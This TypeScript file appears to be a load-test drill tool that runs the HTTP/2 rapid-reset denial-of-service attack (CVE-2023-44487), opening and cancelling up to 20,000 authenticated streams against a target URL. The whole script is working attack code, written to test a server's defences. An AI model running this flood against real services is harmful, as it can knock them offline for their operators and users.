import http2 from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";

/**
 * The rapid-reset attack of the drill (CVE-2023-44487), in a process of its own: an attacker in the
 * drill's process would share its event loop with the client whose latency is measured, and slow
 * that client itself. No load generator resets streams on purpose, hence this script.
 * Usage: h2-attacker <reset-body|reset-headers> <url> <access token>. Prints one JSON line of what it did.
 */
const [mode, url, token] = process.argv.slice(2);
if ((mode !== "reset-body" && mode !== "reset-headers") || !url || !token) throw new Error("usage: h2-attacker <reset-body|reset-headers> <url> <access token>");

const session = http2.connect(url);
session.on("error", () => {});
await new Promise<void>((resolve) => session.once("connect", () => resolve()));
// The drill starts measuring the other client once the attacker is connected.
console.log(JSON.stringify({ connected: true }));
const request = () =>
  session.request({ ":method": "POST", ":path": "/auth.v1.AuthService/GetMe", "content-type": "application/json", authorization: `Bearer ${token}` });

async function reset(withBody: boolean): Promise<Record<string, number>> {
  let sent = 0;
  let closed = false;
  session.once("close", () => (closed = true));
  while (!closed && sent < 20_000) {
    try {
      const stream = request();
      stream.on("error", () => {});
      if (withBody) stream.write("{");
      stream.close(http2.constants.NGHTTP2_CANCEL);
      sent += 1;
    } catch {
      break;
    }
    if (sent % 20 === 0) await sleep(1);
  }
  return { resetsSent: sent, closedByServer: closed ? 1 : 0 };
}

const outcome = await reset(mode === "reset-body");
console.log(JSON.stringify(outcome));
session.close();
